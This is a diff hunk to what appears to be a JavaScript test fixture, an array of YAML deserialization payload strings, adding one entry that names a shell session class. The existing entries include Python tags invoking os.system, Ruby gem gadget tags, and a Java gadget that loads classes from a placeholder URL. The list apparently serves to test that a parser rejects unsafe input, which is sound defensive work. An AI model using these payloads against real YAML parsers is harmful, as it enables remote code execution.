@@ -17,6 +17,7 @@ const values = [
   '!!python/object/apply:os.system ["id"]',
   '!!python/object/new:type {args: []}',
   '!!python/name:os.system',
+  'com.example.shell.ShellSession("x")',
   '--- !ruby/object:Gem::Requirement',
   '- !ruby/class Gem::SpecFetcher',
   '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
